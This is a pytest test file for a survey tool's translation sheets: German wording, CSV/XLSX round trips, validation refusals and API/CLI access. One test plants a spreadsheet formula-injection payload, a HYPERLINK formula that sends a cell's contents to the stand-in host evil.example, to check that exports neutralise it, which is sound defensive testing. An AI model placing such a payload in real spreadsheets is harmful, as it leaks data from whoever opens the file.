"""Questionnaire wording in other languages: German shipped for every installed version, and HR's translation
sheet downloaded, filled in and uploaded (page, API, command line), checked like every import, all or nothing,
refused while a round using the version is open."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import openpyxl
import pytest
from sqlmodel import select

from conftest import start_round
from helpers import csrf_from, log_in
from survey.accounts.api_tokens import create_api_token
from survey.db.engine import Database
from survey.db.models import Instrument, Item, Round, RoundStatus
from survey.surveys.intake import Intake
from survey.wording.sheet import source_texts
from survey.wording.store import download_sheet, stored_translations

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _instrument(db: Database, kind: str, version: int) -> Instrument:
    with db.session() as session:
        return session.exec(
            select(Instrument).where(Instrument.kind == kind, Instrument.version == version)
        ).one()


def _german(db: Database, instrument_id: int) -> dict[str, str]:
    with db.session() as session:
        instrument = session.get(Instrument, instrument_id)
        items = list(session.exec(select(Item).where(Item.instrument_id == instrument_id)))
        return stored_translations(session, instrument, items)["de"]


def _sheet_rows(db: Database, instrument_id: int) -> list[list[str]]:
    data = download_sheet(db, instrument_id, "csv").data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(data)))


def _csv(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode("utf-8")


def _row(rows: list[list[str]], key: str) -> list[str]:
    return next(row for row in rows if row[0] == key)


def _upload_page(client, instrument_id: int, name: str, data: bytes, content_type: str = "text/csv"):
    page = client.get(f"/admin/instruments/{instrument_id}/wording")
    assert page.status_code == 200
    return client.post(
        f"/admin/instruments/{instrument_id}/wording",
        data={"_csrf_token": csrf_from(page.text)},
        files={"file": (name, data, content_type)},
    )


# --- German shipped --------------------------------------------------------------------------------------------


def test_a_german_employee_is_asked_in_german_with_the_functions_name_in_place(db, org, open_round):
    german = Intake(db).sections(open_round.id, "de")
    english = Intake(db).sections(open_round.id, "en")
    first = german[0].questions[0]
    assert german[0].name == "IT Service Desk"
    assert (
        first.text
        == "Der Bereich IT Service Desk liefert, was er zusagt, und zwar gleich beim ersten Mal richtig."
    )
    assert (first.low_label, first.high_label) == ("Stimme überhaupt nicht zu", "Stimme voll und ganz zu")
    assert english[0].questions[0].text == "IT Service Desk delivers what it promises, right the first time."
    assert english[0].questions[0].low_label == "Strongly disagree"
    # The same items, so the answers are the same answers whatever the language.
    assert [q.item_id for q in german[0].questions] == [q.item_id for q in english[0].questions]


def test_a_german_customer_is_asked_in_german_with_the_teams_name_in_place(db, org, open_round):
    intake = Intake(db)
    survey = intake.team_survey(org.team_slugs[0])
    questions = {q.code: q for q in intake.customer_form(survey, "de").questions}
    nps = "Wie wahrscheinlich ist es, dass Sie Store 1 Freunden oder Kollegen weiterempfehlen?"
    assert questions["NPS"].text == nps
    assert questions["CSAT"].high_label == "Sehr zufrieden"
    assert intake.customer_form(survey, "en").questions[0].text.startswith("Overall, how satisfied")


@pytest.mark.parametrize("kind,version", [("internal", 1), ("internal", 2), ("external", 1), ("external", 2)])
def test_every_shipped_version_has_complete_german_wording(db, org, kind, version):
    instrument = _instrument(db, kind, version)
    a_round = start_round(db, internal_version=version if kind == "internal" else None)
    if kind == "external":
        with db.session() as session:
            row = session.get(Round, a_round.id)
            row.external_instrument_id = instrument.id
            session.add(row)
            session.commit()
    with db.session() as session:
        items = list(session.exec(select(Item).where(Item.instrument_id == instrument.id)))
    german = _german(db, instrument.id)
    texts = source_texts(instrument.title, instrument.introduction, items)
    assert {t.key for t in texts} == set(german)
    for text in texts:
        assert german[text.key] and german[text.key] != text.english, text.key
        assert text.placeholders == {p for p in ("{function}", "{team}") if p in german[text.key]}, text.key
    intake = Intake(db)
    if kind == "internal":
        questions = intake.sections(a_round.id, "de")[0].questions
    else:
        questions = intake.customer_form(intake.team_survey(org.team_slugs[0]), "de").questions
    english = {i.id: i for i in items}
    assert len(questions) == len(items)
    for question in questions:
        assert "{" not in question.text
        assert question.text != english[question.item_id].wording
        assert question.low_label != english[question.item_id].low_label


# --- The sheet: round trip -------------------------------------------------------------------------------------


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_hr_downloads_the_sheet_changes_a_translation_and_uploads_it(client, db, people, file_format):
    log_in(client, people.hr)
    scheduled = start_round(db, "2027 Q1", status=RoundStatus.SCHEDULED)
    short = _instrument(db, "internal", 2)
    downloaded = client.get(f"/admin/instruments/{short.id}/wording/{file_format}")
    assert downloaded.status_code == 200
    assert 'filename="questionnaire-internal-v2-wording.' in downloaded.headers["content-disposition"]
    new = "Insgesamt bin ich mit dem Bereich {function} sehr zufrieden."
    if file_format == "xlsx":
        workbook = openpyxl.load_workbook(io.BytesIO(downloaded.content))
        sheet = workbook.active
        assert [c.value for c in sheet[1]] == ["key", "en", "de"]
        row = next(r for r in sheet.iter_rows() if r[0].value == "OVR.wording")
        row[2].value = new
        out = io.BytesIO()
        workbook.save(out)
        response = _upload_page(client, short.id, "sheet.xlsx", out.getvalue(), XLSX)
    else:
        rows = list(csv.reader(io.StringIO(downloaded.content.decode("utf-8-sig"))))
        assert rows[0] == ["key", "en", "de"]
        _row(rows, "OVR.wording")[2] = new
        response = _upload_page(client, short.id, "sheet.csv", _csv(rows))
    assert response.status_code == 200, response.text
    assert "Applied the Deutsch wording: 1 text changed." in response.text
    assert _german(db, short.id)["OVR.wording"] == new
    last = Intake(db).sections(scheduled.id, "de")[0].questions[-1]
    assert last.text == "Insgesamt bin ich mit dem Bereich IT Service Desk sehr zufrieden."


def test_a_closed_rounds_version_takes_new_wording(client, db, people):
    """Only an open round freezes the wording: once it has closed, the version can be translated again."""
    a_round = start_round(db)
    with db.session() as session:
        row = session.get(Round, a_round.id)
        row.status = RoundStatus.CLOSED
        session.add(row)
        session.commit()
    log_in(client, people.hr)
    short = _instrument(db, "internal", 2)
    rows = _sheet_rows(db, short.id)
    _row(rows, "title")[2] = "Kurzbefragung zu unseren internen Dienstleistern"
    assert _upload_page(client, short.id, "sheet.csv", _csv(rows)).status_code == 200
    assert _german(db, short.id)["title"] == "Kurzbefragung zu unseren internen Dienstleistern"


# --- The sheet: refusals ---------------------------------------------------------------------------------------


def _missing_row(rows):
    rows.remove(_row(rows, "REL.low_label"))
    return 0, "key", "the row REL.low_label is missing"


def _blank_cell(rows):
    _row(rows, "RES.wording")[2] = "   "
    return rows.index(_row(rows, "RES.wording")) + 1, "de", "is blank"


def _lost_placeholder(rows):
    _row(rows, "EMP.wording")[2] = "Der Bereich versteht, was ich brauche."
    return rows.index(_row(rows, "EMP.wording")) + 1, "de", "lost {function}"


def _extra_placeholder(rows):
    _row(rows, "EMP.wording")[2] = "Der Bereich {function} versteht {Funktion}."
    return rows.index(_row(rows, "EMP.wording")) + 1, "de", "has {Funktion}, which the English has not"


def _placeholder_in_a_label(rows):
    _row(rows, "OVR.high_label")[2] = "Stimme {team} voll zu"
    return rows.index(_row(rows, "OVR.high_label")) + 1, "de", "has {team}"


def _unknown_key(rows):
    rows.append(["XYZ.wording", "Anything", "Irgendwas"])
    return len(rows), "key", "unknown key 'XYZ.wording'"


def _unknown_language(rows):
    for row in rows:
        row.append("fr" if row is rows[0] else "Bonjour {function}")
    return 1, "fr", "unknown language column 'fr'"


def _too_long(rows):
    _row(rows, "TAN.low_label")[2] = "x" * 81
    return (
        rows.index(_row(rows, "TAN.low_label")) + 1,
        "de",
        "81 characters long in Deutsch (de); at most 80 fit",
    )


def _english_changed(rows):
    _row(rows, "ASS.wording")[1] = "Something else about {function}."
    return rows.index(_row(rows, "ASS.wording")) + 1, "en", "the English is not this version's"


REFUSALS = [
    _missing_row,
    _blank_cell,
    _lost_placeholder,
    _extra_placeholder,
    _placeholder_in_a_label,
    _unknown_key,
    _unknown_language,
    _too_long,
    _english_changed,
]


@pytest.mark.parametrize("spoil", REFUSALS, ids=lambda f: f.__name__.strip("_"))
def test_a_spoiled_sheet_is_refused_by_row_and_column_and_changes_nothing(client, db, people, spoil):
    log_in(client, people.hr)
    short = _instrument(db, "internal", 2)
    before = _german(db, short.id)
    rows = _sheet_rows(db, short.id)
    _row(rows, "OVR.wording")[2] = (
        "Alles in allem unterstützt mich der Bereich {function} gut."  # a good change
    )
    line, column, message = spoil(rows)
    response = _upload_page(client, short.id, "sheet.csv", _csv(rows))
    assert response.status_code == 400
    assert "Nothing was changed" in response.text
    cells = f'<td class="num">{line or "whole file"}</td><td>{column}</td><td>'
    assert cells in response.text, response.text
    assert message.replace("'", "&#39;") in response.text
    assert _german(db, short.id) == before


def test_the_api_refuses_a_spoiled_sheet_with_422_naming_row_and_column(client, db, org):
    with db.session() as session:
        _, token = create_api_token(session, "translator", ["rounds:write"], None, datetime.now(UTC))
    short = _instrument(db, "internal", 2)
    before = _german(db, short.id)
    rows = _sheet_rows(db, short.id)
    line, column, _ = _lost_placeholder(rows)
    response = client.post(
        f"/api/instruments/{short.id}/wording",
        headers={"Authorization": f"Bearer {token}"},
        files={"file": ("sheet.csv", _csv(rows), "text/csv")},
    )
    assert response.status_code == 422
    problem = response.json()["problems"][0]
    assert (problem["file"], problem["line"], problem["column"]) == ("sheet.csv", line, column)
    assert "lost {function}" in problem["message"]
    assert _german(db, short.id) == before


@pytest.mark.parametrize(
    "name,data,message",
    [
        ("sheet.xls", b"\xd0\xcf\x11\xe0" + b"\x00" * 100, "old-style Excel workbook"),
        ("sheet.xlsx", b"not a workbook at all", "is named .xlsx but is not an Excel workbook"),
        ("sheet.pdf", b"%PDF-1.4\x00\x01", "NUL characters"),
    ],
)
def test_a_file_that_is_no_sheet_is_refused(client, db, people, name, data, message):
    log_in(client, people.hr)
    short = _instrument(db, "internal", 2)
    before = _german(db, short.id)
    response = _upload_page(client, short.id, name, data, "application/octet-stream")
    assert response.status_code == 400
    assert message in response.text
    assert _german(db, short.id) == before


def test_an_open_rounds_wording_is_frozen(client, db, people, open_round):
    log_in(client, people.hr)
    short = _instrument(db, "internal", 2)
    before = _german(db, short.id)
    rows = _sheet_rows(db, short.id)
    _row(rows, "OVR.wording")[2] = "Alles in allem unterstützt mich der Bereich {function} gut."
    response = _upload_page(client, short.id, "sheet.csv", _csv(rows))
    assert response.status_code == 409
    assert "frozen while round &#39;2026 Q4&#39; using this version is open" in response.text
    assert _german(db, short.id) == before
    # Another version, which no open round uses, can still be translated.
    full = _instrument(db, "internal", 1)
    full_rows = _sheet_rows(db, full.id)
    assert _upload_page(client, full.id, "sheet.csv", _csv(full_rows)).status_code == 200


# --- Formula safety, access, API and command line --------------------------------------------------------------


def test_a_formula_in_a_translation_is_downloaded_as_text_and_reads_back_the_same(client, db, people):
    log_in(client, people.hr)
    short = _instrument(db, "internal", 2)
    rows = _sheet_rows(db, short.id)
    formula = '=HYPERLINK("https://evil.example/?"&A1,"{function}")'
    _row(rows, "OVR.wording")[2] = formula
    assert _upload_page(client, short.id, "sheet.csv", _csv(rows)).status_code == 200
    downloaded = client.get(f"/admin/instruments/{short.id}/wording/xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(downloaded.content))
    cell = next(r for r in workbook.active.iter_rows() if r[0].value == "OVR.wording")[2]
    assert cell.data_type == "s" and cell.value == "'" + formula
    csv_rows = list(csv.reader(io.StringIO(client.get(f"/admin/instruments/{short.id}/wording/csv").text)))
    assert _row(csv_rows, "OVR.wording")[2] == "'" + formula
    # Uploaded again as downloaded, it is the same text.
    assert _upload_page(client, short.id, "again.xlsx", downloaded.content, XLSX).status_code == 200
    assert _german(db, short.id)["OVR.wording"] == formula


def test_api_tokens_download_with_rounds_read_and_upload_with_rounds_write(client, db, org):
    with db.session() as session:
        _, reader = create_api_token(session, "reader", ["rounds:read"], None, datetime.now(UTC))
        _, writer = create_api_token(session, "writer", ["rounds:write"], None, datetime.now(UTC))
    short = _instrument(db, "internal", 2)
    sheet = client.get(
        f"/api/instruments/{short.id}/wording/csv", headers={"Authorization": f"Bearer {reader}"}
    )
    assert sheet.status_code == 200
    rows = list(csv.reader(io.StringIO(sheet.text)))
    _row(rows, "OVR.wording")[2] = "Alles in allem unterstützt mich der Bereich {function} gut."
    files = {"file": ("sheet.csv", _csv(rows), "text/csv")}
    url = f"/api/instruments/{short.id}/wording"
    refused = client.post(url, headers={"Authorization": f"Bearer {reader}"}, files=files)
    assert refused.status_code == 403
    assert _german(db, short.id)["OVR.wording"] != _row(rows, "OVR.wording")[2]
    applied = client.post(url, headers={"Authorization": f"Bearer {writer}"}, files=files)
    assert applied.status_code == 200 and applied.json()["changed"] == 1
    assert _german(db, short.id)["OVR.wording"] == _row(rows, "OVR.wording")[2]
    as_reader = {"Authorization": f"Bearer {reader}"}
    assert client.get("/api/instruments/999999/wording/csv", headers=as_reader).status_code == 404
    assert client.get(f"/api/instruments/{short.id}/wording/ods", headers=as_reader).status_code == 404


def test_heads_cannot_upload_wording(client, db, people):
    log_in(client, people.head_fl1)
    short = _instrument(db, "internal", 2)
    rows = _sheet_rows(db, short.id)
    before = _german(db, short.id)
    _row(rows, "OVR.wording")[2] = "Alles in allem unterstützt mich der Bereich {function} gut."
    token = csrf_from(client.get("/my").text)
    response = client.post(
        f"/admin/instruments/{short.id}/wording",
        data={"_csrf_token": token},
        files={"file": ("sheet.csv", _csv(rows), "text/csv")},
    )
    assert response.status_code == 403
    assert _german(db, short.id) == before


def test_the_command_line_downloads_and_uploads_a_sheet(run, db, org, tmp_path):
    sheet = tmp_path / "short.xlsx"
    assert run("wording", "download", "internal", "2", "-o", str(sheet)).exit_code == 0
    workbook = openpyxl.load_workbook(sheet)
    row = next(r for r in workbook.active.iter_rows() if r[0].value == "OVR.wording")
    row[2].value = "Alles in allem unterstützt mich der Bereich {function} gut."
    workbook.save(sheet)
    uploaded = run("wording", "upload", "internal", "2", str(sheet))
    assert uploaded.exit_code == 0, uploaded.output
    assert "1 text changed" in uploaded.output
    assert _german(db, _instrument(db, "internal", 2).id)["OVR.wording"].startswith("Alles in allem")


def test_the_command_line_refuses_a_spoiled_sheet_with_exit_2(run, db, org, tmp_path):
    short = _instrument(db, "internal", 2)
    before = _german(db, short.id)
    rows = _sheet_rows(db, short.id)
    line, _, _ = _blank_cell(rows)
    path = tmp_path / "sheet.csv"
    path.write_bytes(_csv(rows))
    result = run("wording", "upload", "internal", "2", str(path))
    assert result.exit_code == 2
    assert f"{path}:{line}: column de: the Deutsch (de) text for RES.wording is blank" in result.output
    assert _german(db, short.id) == before


@pytest.mark.parametrize(
    "args,message",
    [
        (
            ("wording", "download", "internal", "9", "-o", "x.xlsx"),
            "no internal questionnaire version 9 (versions: 1,",
        ),
        (("wording", "download", "internal", "2", "-o", "x.pdf"), "must end in .xlsx or .csv"),
        (
            ("wording", "download", "survey", "2", "-o", "x.csv"),
            "'survey' is not one of 'internal', 'external'",
        ),
        (
            ("wording", "upload", "external", "1", "/nonexistent/sheet.csv"),
            "cannot read /nonexistent/sheet.csv",
        ),
    ],
)
def test_bad_wording_arguments_exit_2_and_say_what_is_wrong(run, org, tmp_path, monkeypatch, args, message):
    monkeypatch.chdir(tmp_path)
    result = run(*args)
    assert result.exit_code == 2
    assert message in result.output
